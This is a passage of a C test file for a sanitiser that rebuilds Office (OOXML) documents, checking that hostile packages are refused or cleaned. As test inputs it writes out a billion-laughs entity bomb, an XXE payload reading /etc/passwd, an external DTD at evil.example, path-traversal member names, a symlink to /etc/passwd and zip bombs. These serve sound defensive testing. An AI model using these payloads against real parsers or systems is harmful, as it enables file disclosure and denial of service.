		doc16[3 + 2 * i] = (guint8)(u16[i] >> 8);
	}
	in = zip_build(m, G_N_ELEMENTS(m));
	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpuint(r.removed->len, ==, 0);
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	g_assert_true(g_hash_table_contains(
	    to, "word/media/\xe7\x94\xbb\xe5\x83\x8f.png"));
	d = g_hash_table_lookup(to, "word/document.xml");
	g_assert_nonnull(g_strstr_len(g_bytes_get_data(d, NULL),
	    (gssize)g_bytes_get_size(d), "encoding=\"UTF-8\""));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(ti);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/*
 * Member names too long to write back (MG_CDR_ZIP_NAME_MAX): libarchive
 * 3.6.2's zip writer overflows its 64 KiB buffer on a name over 65,536
 * bytes (found by fuzz_cdr_ooxml).  A package with a 30,004-byte name is
 * refused before anything is written, with the UTF-8 flag and without
 * it (the bytes then read as they are); the writer helper itself refuses
 * a long name without calling libarchive.
 */
static void
test_long_member_name(void)
{
	GString *name = g_string_new("word/media/");
	GByteArray *raw;
	GBytes *in;
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	guint i;

	for (i = 0; i < 15000; i++)
		g_string_append(name, "\xc3\xa9");
	g_string_append(name, ".png");
	{
		const struct member m[] = {
		    {"[Content_Types].xml", DOCX_CT(""), -1},
		    {"_rels/.rels", PKG_RELS("word/document.xml"), -1},
		    {"word/document.xml", DOC_OPEN "<w:p/>" DOC_CLOSE, -1},
		    {name->str, png, sizeof(png)},
		};

		in = zip_build(m, G_N_ELEMENTS(m));
	}
	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	/* As written: a 30,004-byte UTF-8 name. */
	expect_refused(&ctx, in, MG_REASON_UNSAFE_MEMBER_NAME);
	/* The same bytes without the UTF-8 flag (bit 11) in every local and
	 * central header. */
	raw = g_byte_array_new();
	g_byte_array_append(
	    raw, g_bytes_get_data(in, NULL), (guint)g_bytes_get_size(in));
	g_bytes_unref(in);
	for (i = 0; i + 10 < raw->len; i++) {
		guint8 *h = raw->data + i;

		if (h[0] == 'P' && h[1] == 'K' && h[2] == 3 && h[3] == 4)
			h[7] &= (guint8)~0x08;
		else if (h[0] == 'P' && h[1] == 'K' && h[2] == 1 && h[3] == 2)
			h[9] &= (guint8)~0x08;
	}
	in = g_byte_array_free_to_bytes(raw);
	expect_refused(&ctx, in, MG_REASON_UNSAFE_MEMBER_NAME);
	g_bytes_unref(in);
	/* The helper, directly: 70,000 bytes never reach libarchive. */
	{
		GByteArray *buf = g_byte_array_new();
		struct archive *a = archive_write_new();
		g_autofree char *longname = g_malloc(70001);

		memset(longname, 'a', 70000);
		longname[70000] = '\0';
		archive_write_set_format_zip(a);
		archive_write_open2(a, buf, NULL, grow, NULL, NULL);
		g_assert_false(mg_cdr_zip_add(a, longname, "x", 1));
		g_assert_false(mg_cdr_zip_add(a, "", "x", 1));
		g_assert_true(mg_cdr_zip_add(a, "ok.txt", "x", 1));
		archive_write_close(a);
		archive_write_free(a);
		g_byte_array_free(buf, TRUE);
	}
	g_string_free(name, TRUE);
}

/* ---- refusals ---- */

static GBytes *
word_with(const char *ct, const char *pkg_rels, const char *doc)
{
	const struct member m[] = {
	    {"[Content_Types].xml", ct, -1},
	    {"_rels/.rels", pkg_rels, -1},
	    {"word/document.xml", doc, -1},
	};

	return zip_build(m, G_N_ELEMENTS(m));
}

static void
test_malformed(void)
{
	static const char laughs[] =
	    XML_DECL "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\">"
	             "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
	             "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
	             "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
	             "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
	             "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>"
	             "<w:document xmlns:w=\"" W_NS "\"><w:body><w:p><w:r>"
	             "<w:t>&f;&f;&f;&f;</w:t></w:r></w:p></w:body>"
	             "</w:document>";
	static const char xxe[] =
	    XML_DECL "<!DOCTYPE w:document [<!ENTITY x SYSTEM "
	             "\"file:///etc/passwd\">]><w:document xmlns:w=\"" W_NS
	             "\"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
	             "</w:body></w:document>";
	static const char ext_dtd[] = XML_DECL
	    "<!DOCTYPE w:document SYSTEM \"http://evil.example/x.dtd\">"
	    "<w:document xmlns:w=\"" W_NS "\"/>";
	const char *good_ct = DOCX_CT("");
	const char *good_rels = PKG_RELS("word/document.xml");
	const char *good_doc = DOC_OPEN P(RUN("x")) DOC_CLOSE;
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	GBytes *in;

	ctx_init(&ctx, &lim);
	in = g_bytes_new_static("", 0);
	expect_refused(&ctx, in, MG_REASON_DAMAGED_ARCHIVE);
	g_bytes_unref(in);
	in = g_bytes_new_static("hello, world", 12);
	expect_refused(&ctx, in, MG_REASON_DAMAGED_ARCHIVE);
	g_bytes_unref(in);

	/* Entities and DTDs, in the document, the content types and the
	 * relationships. */
	in = word_with(good_ct, good_rels, laughs);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	in = word_with(good_ct, good_rels, xxe);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	in = word_with(good_ct, good_rels, ext_dtd);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	in = word_with(
	    XML_DECL "<!DOCTYPE Types []><Types/>", good_rels, good_doc);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	in = word_with(good_ct,
	    XML_DECL "<!DOCTYPE R [<!ENTITY t \"word/document.xml\">]>"
	             "<Relationships/>",
	    good_doc);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);

	/* Not well-formed. */
	in = word_with(good_ct, good_rels, "<w:document><w:body>");
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	in = word_with("<Types", good_rels, good_doc);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	/* Relationships without an id, or with one twice. */
	in = word_with(good_ct,
	    RELS_OPEN "<Relationship Type=\"" REL(
	        "officeDocument") "\" "
	                          "Target=\"word/document.xml\"/>" RELS_CLOSE,
	    good_doc);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);
	in = word_with(good_ct,
	    RELS_OPEN RL("rId1", REL("officeDocument"), "word/document.xml")
	        RL("rId1", REL("styles"), "word/styles.xml") RELS_CLOSE,
	    good_doc);
	expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
	g_bytes_unref(in);

	/* Not an Office document: no content types, no package
	 * relationships, no main part, an unsupported main part. */
	{
		const struct member m[] = {{"a.txt", "text", -1}};

		in = zip_build(m, 1);
		expect_refused(&ctx, in, MG_REASON_UNSUPPORTED);
		g_bytes_unref(in);
	}
	{
		const struct member m[] = {
		    {"[Content_Types].xml", good_ct, -1},
		    {"word/document.xml", good_doc, -1},
		};

		in = zip_build(m, 2);
		expect_refused(&ctx, in, MG_REASON_UNSUPPORTED);
		g_bytes_unref(in);
	}
	in = word_with(good_ct, PKG_RELS("word/missing.xml"), good_doc);
	expect_refused(&ctx, in, MG_REASON_UNSUPPORTED);
	g_bytes_unref(in);
	in = word_with(CT_OPEN OVR("/word/document.xml",
	                   "application/vnd.ms-excel.sheet.binary."
	                   "macroEnabled.main") CT_CLOSE,
	    good_rels, good_doc);
	expect_refused(&ctx, in, MG_REASON_UNSUPPORTED);
	g_bytes_unref(in);

	/* Fields nested past the limit. */
	{
		GString *d = g_string_new(DOC_OPEN "<w:p>");
		int i;

		for (i = 0; i < 100; i++)
			g_string_append(d, BEGIN INSTR(" IF "));
		g_string_append(d, "</w:p>" DOC_CLOSE);
		in = word_with(good_ct, good_rels, d->str);
		expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
		g_bytes_unref(in);
		g_string_free(d, TRUE);
	}
}

/* A part whose declared encoding does not decode is refused, and
 * libxml2's messages about it do not reach stderr. */
static void
test_bad_encoding(void)
{
	if (g_test_subprocess()) {
		static const char doc[] =
		    "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>"
		    "<w:document xmlns:w=\"" W_NS "\" a=\"\x81\xff\"/>";
		GBytes *in =
		    word_with(DOCX_CT(""), PKG_RELS("word/document.xml"), doc);
		struct mg_cdr_ctx ctx;
		struct mg_limits lim;

		ctx_init(&ctx, &lim);
		expect_refused(&ctx, in, MG_REASON_CDR_FAILED);
		g_bytes_unref(in);
		return;
	}
	g_test_trap_subprocess(NULL, 0, 0);
	g_test_trap_assert_passed();
	g_test_trap_assert_stderr("");
}

static void
test_zip_level(void)
{
	const char *good_ct = DOCX_CT("");
	const char *good_rels = PKG_RELS("word/document.xml");
	const char *good_doc = DOC_OPEN P(RUN("x")) DOC_CLOSE;
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	GBytes *in;

	ctx_init(&ctx, &lim);
	/* Two members with one name, or names equal but for case. */
	{
		const struct member m[] = {
		    {"[Content_Types].xml", good_ct, -1},
		    {"_rels/.rels", good_rels, -1},
		    {"word/document.xml", good_doc, -1},
		    {"Word/Document.xml", good_doc, -1},
		};

		in = zip_build(m, G_N_ELEMENTS(m));
		expect_refused(&ctx, in, MG_REASON_DAMAGED_ARCHIVE);
		g_bytes_unref(in);
	}
	/* Unsafe names. */
	{
		static const char *const names[] = {
		    "../evil.xml", "word/../../evil.xml", "/abs.xml", "C:x"};
		gsize i;

		for (i = 0; i < G_N_ELEMENTS(names); i++) {
			const struct member m[] = {
			    {"[Content_Types].xml", good_ct, -1},
			    {"_rels/.rels", good_rels, -1},
			    {"word/document.xml", good_doc, -1},
			    {names[i], "x", -1},
			};

			in = zip_build(m, G_N_ELEMENTS(m));
			expect_refused(&ctx, in, MG_REASON_UNSAFE_MEMBER_NAME);
			g_bytes_unref(in);
		}
	}
	/* A symbolic link. */
	{
		GByteArray *buf = g_byte_array_new();
		struct archive *a = archive_write_new();
		struct archive_entry *e = archive_entry_new();

		archive_write_set_format_zip(a);
		archive_write_open2(a, buf, NULL, grow, NULL, NULL);
		archive_entry_set_pathname(e, "word/document.xml");
		archive_entry_set_filetype(e, AE_IFLNK);
		archive_entry_set_symlink(e, "/etc/passwd");
		archive_write_header(a, e);
		archive_entry_free(e);
		archive_write_close(a);
		archive_write_free(a);
		in = g_byte_array_free_to_bytes(buf);
		expect_refused(&ctx, in, MG_REASON_UNSAFE_MEMBER_NAME);
		g_bytes_unref(in);
	}
	/* An encrypted zip (when this libarchive can write one). */
	{
		const struct member m[] = {
		    {"[Content_Types].xml", good_ct, -1},
		    {"_rels/.rels", good_rels, -1},
		    {"word/document.xml", good_doc, -1},
		};

		in = zip_build_opts(
		    m, G_N_ELEMENTS(m), "zip:encryption=zipcrypt", "secret");
		if (in != NULL) {
			expect_refused(&ctx, in, MG_REASON_ENCRYPTED);
			g_bytes_unref(in);
		} else {
			g_test_message("no zipcrypt writer: case skipped");
		}
		in = zip_build_opts(
		    m, G_N_ELEMENTS(m), "zip:encryption=aes256", "secret");
		if (in != NULL) {
			expect_refused(&ctx, in, MG_REASON_ENCRYPTED);
			g_bytes_unref(in);
		} else {
			g_test_message("no AES zip writer: case skipped");
		}
	}
	/* An encrypted OOXML document is an OLE2 file. */
	{
		GByteArray *b = g_byte_array_new();
		static const char enc[] =
		    "E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0";

		g_byte_array_append(
		    b, (const guint8 *)"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
		g_byte_array_set_size(b, 512);
		memset(b->data + 8, 0, 504);
		g_byte_array_append(b, (const guint8 *)enc, sizeof(enc) - 1);
		in = g_byte_array_free_to_bytes(b);
		g_assert_cmpint(
		    mg_cdr_ooxml.bid("application/encrypted", NULL,
		        g_bytes_get_data(in, NULL), g_bytes_get_size(in)),
		    >, 0);
		expect_refused(&ctx, in, MG_REASON_ENCRYPTED);
		g_bytes_unref(in);
		in = g_bytes_new_static("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
		                        "\0\0\0\0\0\0\0\0",
		    16);
		expect_refused(&ctx, in, MG_REASON_UNSUPPORTED);
		g_bytes_unref(in);
	}
}

static void
test_limits(void)
{
	const char *good_ct = DOCX_CT("");
	const char *good_rels = PKG_RELS("word/document.xml");
	const char *good_doc = DOC_OPEN P(RUN("x")) DOC_CLOSE;
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	GBytes *in;
	guint8 *big;
	gsize i;

	ctx_init(&ctx, &lim);
	/* One member over max_member_size. */
	big = g_malloc0(8u * 1024 * 1024);
	{
		const struct member m[] = {
		    {"[Content_Types].xml", good_ct, -1},
		    {"_rels/.rels", good_rels, -1},
		    {"word/document.xml", good_doc, -1},
		    {"word/media/zeros.png", big, 2u * 1024 * 1024},
		};

		in = zip_build(m, G_N_ELEMENTS(m));
		lim.max_member_size = 1024 * 1024;
		expect_refused(&ctx, in, MG_REASON_MEMBER_TOO_LARGE);
		lim.max_member_size = 0;
		/* The whole input over max_part_size. */
		lim.max_part_size = 1000;
		expect_refused(&ctx, in, MG_REASON_PART_TOO_LARGE);
		lim.max_part_size = 0;
		g_bytes_unref(in);
	}
	/* 8 MiB of zeros in a few kilobytes: past the ratio. */
	{
		const struct member m[] = {
		    {"[Content_Types].xml", good_ct, -1},
		    {"_rels/.rels", good_rels, -1},
		    {"word/document.xml", good_doc, -1},
		    {"word/media/zeros.png", big, 8u * 1024 * 1024},
		};

		in = zip_build(m, G_N_ELEMENTS(m));
		g_assert_cmpuint(g_bytes_get_size(in), <, 64 * 1024);
		expect_refused(&ctx, in, MG_REASON_ARCHIVE_BOMB);
		g_bytes_unref(in);
	}
	/* Incompressible members over max_archive_total. */
	{
		GRand *rnd = g_rand_new_with_seed(7);
		const struct member m[] = {
		    {"[Content_Types].xml", good_ct, -1},
		    {"_rels/.rels", good_rels, -1},
		    {"word/document.xml", good_doc, -1},
		    {"a.bin", big, 600 * 1024},
		    {"b.bin", big + 600 * 1024, 600 * 1024},
		};

		for (i = 0; i < 1200 * 1024; i++)
			big[i] = (guint8)g_rand_int(rnd);
		g_rand_free(rnd);
		in = zip_build(m, G_N_ELEMENTS(m));
		lim.max_archive_total = 1024 * 1024;
		expect_refused(&ctx, in, MG_REASON_ARCHIVE_BOMB);
		lim.max_archive_total = 0;
		g_bytes_unref(in);
	}
	g_free(big);
	/* More members than MAX_PARTS. */
	{
		struct member *m = g_new0(struct member, 10002);
		char **names = g_new0(char *, 10002);

		m[0].name = "[Content_Types].xml";
		m[0].data = good_ct;
		m[0].len = -1;
		for (i = 1; i < 10002; i++) {
			names[i] = g_strdup_printf("p/%zu.xml", i);
			m[i].name = names[i];
			m[i].data = "";
			m[i].len = 0;
		}
		in = zip_build(m, 10002);
		expect_refused(&ctx, in, MG_REASON_TOO_MANY_MEMBERS);
		g_bytes_unref(in);
		for (i = 0; i < 10002; i++)
			g_free(names[i]);
		g_free(names);
		g_free(m);
	}
}

/* Every prefix of a hostile package, and random damage: refused or
 * rebuilt, never a crash or a leak. */
static void
test_truncated_damaged(void)
{
	GBytes *in = hostile_docx();
	gsize len, i, cut;
	const guint8 *d = g_bytes_get_data(in, &len);
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GRand *rnd = g_rand_new_with_seed(42);

	ctx_init(&ctx, &lim);
	for (cut = 0; cut < len; cut += 1 + cut / 40) {
		GBytes *t = g_bytes_new(d, cut);

		expect_refused(&ctx, t, MG_REASON_NONE);
		g_bytes_unref(t);
	}
	for (i = 0; i < 300; i++) {
		guint8 *copy = g_memdup2(d, len);
		guint flips = 1 + g_rand_int_range(rnd, 0, 8), j;
		GBytes *t;

		for (j = 0; j < flips; j++)
			copy[g_rand_int_range(rnd, 0, (gint32)len)] =
			    (guint8)g_rand_int(rnd);
		t = g_bytes_new_take(copy, len);
		run(&ctx, t, &r);
		if (r.outcome == MG_CDR_REBUILT) {
			GHashTable *to = zip_read(r.data, NULL);

			check_parts(NULL, to);
			assert_absent(to, hostile);
			g_hash_table_unref(to);
		}
		mg_cdr_result_clear(&r);
		g_bytes_unref(t);
	}
	g_rand_free(rnd);
	g_bytes_unref(in);
}

static void
test_bid(void)
{
	GBytes *in = clean_docx();
	gsize len;
	const guint8 *d = g_bytes_get_data(in, &len);

	g_assert_cmpint(
	    mg_cdr_ooxml.bid(OXD "wordprocessingml.document", "docx", d, len),
	    ==, 90);
	g_assert_cmpint(
	    mg_cdr_ooxml.bid("application/zip", "docm", d, len), ==, 80);
	g_assert_cmpint(
	    mg_cdr_ooxml.bid("application/zip", "xls", d, len), ==, 60);
	g_assert_cmpint(mg_cdr_ooxml.bid("application/zip", NULL,
	                    (const guint8 *)"PK\x03\x04", 4),
	    ==, 0);
	g_assert_cmpint(mg_cdr_ooxml.bid("application/pdf", "pdf",
	                    (const guint8 *)"%PDF-1.7", 8),
	    ==, 0);
	g_assert_cmpint(mg_cdr_ooxml.bid(OXD "wordprocessingml.document",
	                    "docx", (const guint8 *)"", 0),
	    ==, 0);
	g_bytes_unref(in);
}

/* ---- the public samples ---- */

/* A uuencoded file (libarchive's test samples are stored so). */
static GBytes *
uudecode(const char *text)
{
	GByteArray *out = g_byte_array_new();
	char **lines = g_strsplit(text, "\n", -1);
	gboolean in = FALSE;
	char **l;

	for (l = lines; *l != NULL; l++) {
		const char *p = *l;
		int n, i;

		if (!in) {
			in = g_str_has_prefix(p, "begin ");
			continue;
		}
		if (g_str_has_prefix(p, "end") || p[0] == '\0')
			break;
		n = (p[0] - ' ') & 63;
		if (n == 0)
			break;
		for (p++, i = 0; i < n && strlen(p) >= 4; p += 4) {
			guint8 c[4], b[3];
			int k;

			for (k = 0; k < 4; k++)
				c[k] = (guint8)((p[k] - ' ') & 63);
			b[0] = (guint8)(c[0] << 2 | c[1] >> 4);
			b[1] = (guint8)(c[1] << 4 | c[2] >> 2);
			b[2] = (guint8)(c[2] << 6 | c[3]);
			for (k = 0; k < 3 && i < n; k++, i++)
				g_byte_array_append(out, &b[k], 1);
		}
	}
	g_strfreev(lines);
	return g_byte_array_free_to_bytes(out);
}

static char *
corpus_dir(void)
{
	const char *src = g_getenv("MUGAIKA_SOURCE_DIR");
	char *dir;

	if (src == NULL)
		return NULL;
	dir = g_build_filename(src, "..", "shared", "corpus-external", NULL);
	if (!g_file_test(dir, G_FILE_TEST_IS_DIR)) {
		g_free(dir);
		return NULL;
	}
	return dir;
}

enum expect {
	E_REBUILT, /* rebuilt, with `ids` among the removals */
	E_CLEAN,   /* verified, or rebuilt with nothing removed */
	E_REFUSED, /* refused for `reason` */
};

static const struct {
	const char *path;
	enum expect expect;
	const char *ids; /* comma-separated, for E_REBUILT */
	enum mg_reason reason;
	const char *ext; /* what a rebuilt file becomes, or NULL */
} samples[] = {
    {"oletools/msodde/dde-test.docx", E_REBUILT, MG_CDR_RM_DDE, 0, "docx"},
    {"oletools/msodde/dde-test.docm", E_REBUILT, MG_CDR_RM_DDE, 0, "docx"},
    {"oletools/msodde/dde-test.xlsx", E_REBUILT,
        MG_CDR_RM_DDE "," MG_CDR_RM_DATACONN, 0, "xlsx"},
    {"oletools/msodde/dde-test.xlsm", E_REBUILT,
        MG_CDR_RM_DDE "," MG_CDR_RM_DATACONN, 0, "xlsx"},
    {"oletools/msodde/dde-test.xlsb", E_REFUSED, NULL, MG_REASON_UNSUPPORTED,
        NULL},
    {"oletools/msodde/harmless-clean.docx", E_CLEAN, NULL, 0, NULL},
    {"oletools/msodde/harmless-clean.docm", E_CLEAN, NULL, 0, "docx"},
    {"oletools/oleform/oleform-PR314.docm", E_REBUILT, MG_CDR_RM_VBA, 0,
        "docx"},
    {"oletools/excel4-macros/excel4_sample_macro.xlsm", E_REBUILT,
        MG_CDR_RM_XLM, 0, "xlsx"},
    {"oletools/excel4-macros/excel4_sample_macro.xltm", E_REBUILT,
        MG_CDR_RM_XLM, 0, "xltx"},
    {"oletools/excel4-macros/excel4_sample_macro.xlsb", E_REFUSED, NULL,
        MG_REASON_UNSUPPORTED, NULL},
    {"oletools/oleobj/embedded-simple-2007.docx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "docx"},
    {"oletools/oleobj/embedded-simple-2007.docm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "docx"},
    {"oletools/oleobj/embedded-simple-2007.dotx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "dotx"},
    {"oletools/oleobj/embedded-simple-2007.dotm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "dotx"},
    {"oletools/oleobj/embedded-simple-2007.xlsx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "xlsx"},
    {"oletools/oleobj/embedded-simple-2007.xlsm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "xlsx"},
    {"oletools/oleobj/embedded-simple-2007.xltx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "xltx"},
    {"oletools/oleobj/embedded-simple-2007.xltm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "xltx"},
    {"oletools/oleobj/embedded-simple-2007.pptx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "pptx"},
    {"oletools/oleobj/embedded-simple-2007.pptm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "pptx"},
    {"oletools/oleobj/embedded-simple-2007.potx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "potx"},
    {"oletools/oleobj/embedded-simple-2007.potm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "potx"},
    {"oletools/oleobj/embedded-simple-2007.ppsx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "ppsx"},
    {"oletools/oleobj/embedded-simple-2007.ppsm", E_REBUILT, MG_CDR_RM_OLE, 0,
        "ppsx"},
    {"oletools/oleobj/embedded-unicode-2007.docx", E_REBUILT, MG_CDR_RM_OLE, 0,
        "docx"},
    {"oletools/oleobj/embedded-simple-2007.xlsb", E_REFUSED, NULL,
        MG_REASON_UNSUPPORTED, NULL},
    {"oletools/oleobj/embedded-simple-2007.xlam", E_REFUSED, NULL,
        MG_REASON_UNSUPPORTED, NULL},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.docx",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "docx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.docm",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "docx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.dotm",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "dotx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.dotx",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "dotx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.pptx",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "pptx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.pptm",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "pptx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.potm",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "potx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.ppsm",
        E_REBUILT, MG_CDR_RM_EXTERNAL, 0, "ppsx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.xlsx",
        E_REBUILT, MG_CDR_RM_DATACONN "," MG_CDR_RM_EXTERNAL, 0, "xlsx"},
    {"oletools/oleobj/external_link/sample_with_external_link_to_doc.xlsm",
        E_REBUILT, MG_CDR_RM_DATACONN "," MG_CDR_RM_EXTERNAL, 0, "xlsx"},
    {"oletools/basic/encrypted.docx", E_REFUSED, NULL, MG_REASON_ENCRYPTED,
        NULL},
    {"oletools/encrypted/encrypted.docx", E_REFUSED, NULL, MG_REASON_ENCRYPTED,
        NULL},
    {"oletools/encrypted/encrypted.docm", E_REFUSED, NULL, MG_REASON_ENCRYPTED,
        NULL},
    {"oletools/encrypted/encrypted.xlsx", E_REFUSED, NULL, MG_REASON_ENCRYPTED,
        NULL},
    {"oletools/encrypted/encrypted.pptx", E_REFUSED, NULL, MG_REASON_ENCRYPTED,
        NULL},
    {"oletools/encrypted/dde-test-encrypt-standardpassword.xlsx", E_REFUSED,
        NULL, MG_REASON_ENCRYPTED, NULL},
    {"oletools/other/presentation.xps", E_REFUSED, NULL, MG_REASON_UNSUPPORTED,
        NULL},
    {"oletools/basic/empty", E_REFUSED, NULL, MG_REASON_DAMAGED_ARCHIVE, NULL},
    {"dangerzone/sample-docx.docx", E_CLEAN, NULL, 0, NULL},
    {"dangerzone/sample-docm.docm", E_CLEAN, NULL, 0, "docx"},
    {"dangerzone/sample-xlsx.xlsx", E_CLEAN, NULL, 0, NULL},
    {"dangerzone/sample-pptx.pptx", E_CLEAN, NULL, 0, NULL},
    {"dangerzone/sample-mime-octet-stream.xls", E_CLEAN, NULL, 0, NULL},
    {"dangerzone/sample-epub.epub", E_REFUSED, NULL, MG_REASON_UNSUPPORTED,
        NULL},
    {"pycirclean/normal/word_docx.docx", E_CLEAN, NULL, 0, NULL},
    {"libarchive/test_read_format_zip_malformed1.zip.uu", E_REFUSED, NULL,
        MG_REASON_NONE, NULL},
    {"libarchive/test_read_format_zip_traditional_encryption_data.zip.uu",
        E_REFUSED, NULL, MG_REASON_ENCRYPTED, NULL},
    {"libarchive/test_read_format_zip_winzip_aes128.zip.uu", E_REFUSED, NULL,
        MG_REASON_ENCRYPTED, NULL},
    {"libarchive/test_read_format_zip_winzip_aes256.zip.uu", E_REFUSED, NULL,
        MG_REASON_ENCRYPTED, NULL},
    {"libarchive/test_read_format_zip_encryption_data.zip.uu", E_REFUSED, NULL,
        MG_REASON_NONE, NULL},
    {"libarchive/test_read_format_zip_encryption_header.zip.uu", E_REFUSED,
        NULL, MG_REASON_NONE, NULL},
    {"pycirclean/dangerous/archivebomb.zip", E_REFUSED, NULL,
        MG_REASON_UNSUPPORTED, NULL},
};

static void
check_sample(struct mg_cdr_ctx *ctx, const char *dir, gsize i)
{
	g_autofree char *path = g_build_filename(dir, samples[i].path, NULL);
	g_autofree char *data = NULL;
	gsize len;
	GBytes *in;
	struct mg_cdr_result r;

	if (!g_file_get_contents(path, &data, &len, NULL)) {
		g_test_message("missing sample %s", samples[i].path);
		return;
	}
	if (g_str_has_suffix(path, ".uu"))
		in = uudecode(data);
	else
		in = g_bytes_new(data, len);
	run(ctx, in, &r);
	g_test_message("%s: outcome %d", samples[i].path, r.outcome);
	switch (samples[i].expect) {
	case E_REFUSED:
		if (r.outcome != MG_CDR_REFUSED)
			g_error("%s: not refused", samples[i].path);
		if (samples[i].reason != MG_REASON_NONE &&
		    r.reason != samples[i].reason)
			g_error("%s: refused as %s (%s)", samples[i].path,
			    mg_reason_id(r.reason), r.detail);
		break;
	case E_CLEAN:
		if (r.outcome == MG_CDR_REFUSED ||
		    (r.outcome == MG_CDR_REBUILT && r.removed->len > 0))
			g_error("%s: outcome %d, %u removals (%s)",
			    samples[i].path, r.outcome, r.removed->len,
			    r.removed->len > 0
			        ? (char *)g_ptr_array_index(r.removed, 0)
			        : r.detail);
		if (samples[i].ext != NULL) {
			g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
			g_assert_cmpstr(r.extension, ==, samples[i].ext);
		}
		break;
	case E_REBUILT: {
		char **ids = g_strsplit(samples[i].ids, ",", -1);
		char **id;

		if (r.outcome != MG_CDR_REBUILT)
			g_error(
			    "%s: not rebuilt (%s)", samples[i].path, r.detail);
		for (id = ids; *id != NULL; id++)
			if (!has_id(&r, *id))
				g_error("%s: %s not reported", samples[i].path,
				    *id);
		g_strfreev(ids);
		g_assert_cmpstr(r.extension, ==, samples[i].ext);
		break;
	}
	}
	if (r.outcome == MG_CDR_REBUILT) {
		GHashTable *ti = zip_read(in, NULL),
		           *to = zip_read(r.data, NULL);

		check_parts(ti, to);
		assert_absent(to, hostile);
		check_external(to, ctx->keep_hyperlinks);
		expect_stable(ctx, r.data);
		g_hash_table_unref(ti);
		g_hash_table_unref(to);
	}
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

static void
test_corpus(void)
{
	g_autofree char *dir = corpus_dir();
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	gsize i;

	if (dir == NULL) {
		g_test_skip("corpus-external not present");
		return;
	}
	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	for (i = 0; i < G_N_ELEMENTS(samples); i++)
		check_sample(&ctx, dir, i);
	/* Links not kept. */
	ctx.keep_hyperlinks = FALSE;
	for (i = 0; i < G_N_ELEMENTS(samples); i++)
		if (samples[i].expect == E_REBUILT)
			check_sample(&ctx, dir, i);
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/cdr/ooxml/clean_verified", test_clean_verified);
	g_test_add_func("/cdr/ooxml/metadata", test_metadata);
	g_test_add_func("/cdr/ooxml/docm_vba", test_docm_vba);
	g_test_add_func("/cdr/ooxml/macro_types", test_macro_types);
	g_test_add_func("/cdr/ooxml/word_hostile", test_word_hostile);
